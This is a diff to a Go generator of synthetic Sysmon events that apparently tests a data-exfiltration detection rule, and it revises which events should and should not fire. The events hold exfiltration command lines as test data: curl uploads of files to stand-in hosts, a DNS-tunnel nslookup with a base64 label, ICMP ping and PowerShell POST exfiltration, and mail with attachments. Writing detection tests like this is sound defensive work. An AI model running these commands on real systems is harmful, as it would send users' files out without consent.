@@ -9,15 +9,17 @@
 // fire.xml: one event per branch that the seed reports, on host WIN-ATOMIC (192.168.56.10):
 //   - FTP by image: ftp.exe -s:ftp_script.txt (the seed's test 1) and its connection to 127.0.0.1:21;
 //   - FTP by command line: the MAZE FTP upload (Atomic T1048.003 #6), powershell with ftp://;
-//   - HTTP_Upload: curl.exe --upload-file ... http://127.0.0.1:8080/upload (the seed's test 2);
+//   - curl.exe --upload-file ... http://127.0.0.1:8080/upload (the seed's test 2): FTP and
+//     HTTP_Upload both match (--upload-file is in the seed's FTP expression too), so FTP with
+//     SuspicionScore 2;
+//   - HTTP_Upload: curl.exe -F file=@... http://198.51.100.7/upload.php;
 //   - DNS_Tunnel: nslookup.exe with a long base64 label (the seed's test 3);
 //   - SMTP: Send-MailMessage -Attachments -SmtpServer (Atomic T1048.003 #5);
 //   - Plaintext_Network: updater.exe to 198.51.100.80:80 (public) three times;
 //   - a renamed ftp.exe (Image winupd.exe, OriginalFileName ftp.exe: beyond the seed).
 //
 // quiet.xml: what the seed leaves alone, one per branch: an ICMP ping exfiltration (Atomic #2),
-// Invoke-WebRequest -Method POST (Atomic #4: not curl/wget), curl.exe --upload-file to an
-// https:// URL, Resolve-DnsName, Get-Help Send-MailMessage (a mailer without attachment or
+// Invoke-WebRequest -Method POST (Atomic #4: not curl/wget), curl.exe -F to an https:// URL, Resolve-DnsName, Get-Help Send-MailMessage (a mailer without attachment or
 // recipient), chrome.exe to 198.51.100.80:80 (a browser), powershell.exe to 198.51.100.80:443
 // (not a plaintext port) and the Empire-like powershell.exe to 10.10.10.5:80 (private: reported
 // only when the config calls 10.10.10.0/24 external).
@@ -68,6 +70,8 @@ func main() {
 	fire = append(fire, synth.SysmonProcess(maze, at(3)))
 	curl := proc(`C:\Windows\System32\curl.exe`, `curl.exe --upload-file C:\Users\analyst\AppData\Local\Temp\exfil.txt http://127.0.0.1:8080/upload`, cmd)
 	fire = append(fire, synth.SysmonProcess(curl, at(5)), synth.SysmonConnect(curl, at(5).Add(time.Second), "tcp", "127.0.0.1", 50102, "127.0.0.1", 8080))
+	form := proc(`C:\Windows\System32\curl.exe`, `curl.exe -F file=@C:\Users\analyst\Documents\q3.xlsx http://198.51.100.7/upload.php`, cmd)
+	fire = append(fire, synth.SysmonProcess(form, at(6)))
 	nslookup := proc(`C:\Windows\System32\nslookup.exe`, `nslookup.exe `+strings.Repeat("VGhpcyBpcyBzZWNyZXQgZGF0YQ", 2)+`.exfil.example.com`, psParent)
 	fire = append(fire, synth.SysmonProcess(nslookup, at(7)))
 	mail := proc(ps, `powershell.exe & {Send-MailMessage -From test@corp.com -To test@corp.com -Subject "T1048.003 Atomic Test" `+
@@ -85,7 +89,7 @@ func main() {
 	ping := proc(ps, `powershell.exe & {$ping = New-Object System.Net.Networkinformation.ping; foreach($Data in Get-Content -Path C:\Windows\System32\notepad.exe `+
 		`-Encoding Byte -ReadCount 1024) { $ping.Send("127.0.0.1", 1500, $Data) }}`, cmd)
 	iwr := proc(ps, `powershell.exe & {$content = Get-Content C:\Windows\System32\notepad.exe; Invoke-WebRequest -Uri 127.0.0.1 -Method POST -Body $content}`, cmd)
-	curls := proc(`C:\Windows\System32\curl.exe`, `curl.exe --upload-file C:\temp\report.pdf https://files.example.com/upload`, cmd)
+	curls := proc(`C:\Windows\System32\curl.exe`, `curl.exe -F file=@C:\temp\report.pdf https://files.example.com/upload`, cmd)
 	rdn := proc(ps, `powershell.exe Resolve-DnsName -Name www.example.com`, cmd)
 	help := proc(ps, `powershell.exe Get-Help Send-MailMessage -Full`, cmd)
 	chrome := proc(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`, explorer)
